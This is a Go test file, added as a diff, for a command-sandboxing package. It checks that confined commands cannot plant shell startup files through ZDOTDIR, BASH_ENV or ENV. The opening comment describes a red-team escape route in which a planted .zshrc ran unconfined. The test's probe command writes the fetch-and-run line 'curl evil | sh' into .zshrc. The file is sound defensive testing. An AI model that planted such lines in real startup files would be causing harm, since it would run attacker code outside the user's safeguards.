@@ -1,0 +1,77 @@
+package confine_test
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/gatehouse-dev/gatehouse/confine"
+)
+
+// The default writable directories were refused in the startup places
+// of home, XDG and PATH, but not where the environment names a shell's
+// startup files elsewhere: ZDOTDIR=~/dotfiles/zsh (zsh reads its .zshrc
+// there; a directory without a dot), BASH_ENV (sourced by every bash -c)
+// and ENV. A command with Dir ~/dotfiles left a .zshrc that the user's
+// next shell ran unconfined (red team rtx).
+func TestRedteamRTX_ShellStartupFromTheEnvironment(t *testing.T) {
+	requireLandlock(t)
+	h := newHome(t)
+	t.Setenv("HOME", h.dir)
+	for _, v := range []string{"ZDOTDIR", "BASH_ENV", "ENV"} {
+		t.Setenv(v, "")
+	}
+	dotfiles := filepath.Join(h.dir, "dotfiles")
+	zdot := filepath.Join(dotfiles, "zsh")
+	proj := filepath.Join(h.dir, "src", "proj")
+	for _, d := range []string{zdot, proj} {
+		if err := os.MkdirAll(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	tmp := t.TempDir()
+	run := func(dir string) error {
+		t.Helper()
+		cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: dir}, "sh", "-c", "echo 'curl evil | sh' > .zshrc")
+		if err != nil {
+			return err
+		}
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("%s: %v\n%s", dir, err, out)
+		}
+		return nil
+	}
+	cases := []struct{ name, env, value, dir, tmp string }{
+		{"Dir holding ZDOTDIR", "ZDOTDIR", zdot, dotfiles, tmp},
+		{"Dir ZDOTDIR", "ZDOTDIR", zdot, zdot, tmp},
+		{"ZDOTDIR with a trailing slash", "ZDOTDIR", zdot + "/", zdot, tmp},
+		{"TMPDIR ZDOTDIR", "ZDOTDIR", zdot, proj, zdot},
+		{"Dir holding BASH_ENV", "BASH_ENV", filepath.Join(proj, "env.sh"), proj, tmp},
+		{"Dir holding ENV", "ENV", filepath.Join(proj, ".shinit"), proj, tmp},
+	}
+	for _, c := range cases {
+		t.Setenv(c.env, c.value)
+		t.Setenv("TMPDIR", c.tmp)
+		if err := run(c.dir); !errors.Is(err, confine.ErrWritableHome) {
+			t.Errorf("%s: want ErrWritableHome, got %v", c.name, err)
+		}
+		t.Setenv(c.env, "")
+	}
+	if _, err := os.Stat(filepath.Join(zdot, ".zshrc")); err == nil {
+		t.Error("a .zshrc was left in ZDOTDIR")
+	}
+
+	// Near misses: a relative or unset ZDOTDIR, and a project beside it,
+	// run and write.
+	t.Setenv("TMPDIR", tmp)
+	t.Setenv("ZDOTDIR", "zsh")
+	if err := run(proj); err != nil {
+		t.Errorf("relative ZDOTDIR: %v", err)
+	}
+	t.Setenv("ZDOTDIR", zdot)
+	if err := run(proj); err != nil {
+		t.Errorf("a project beside ZDOTDIR: %v", err)
+	}
+}
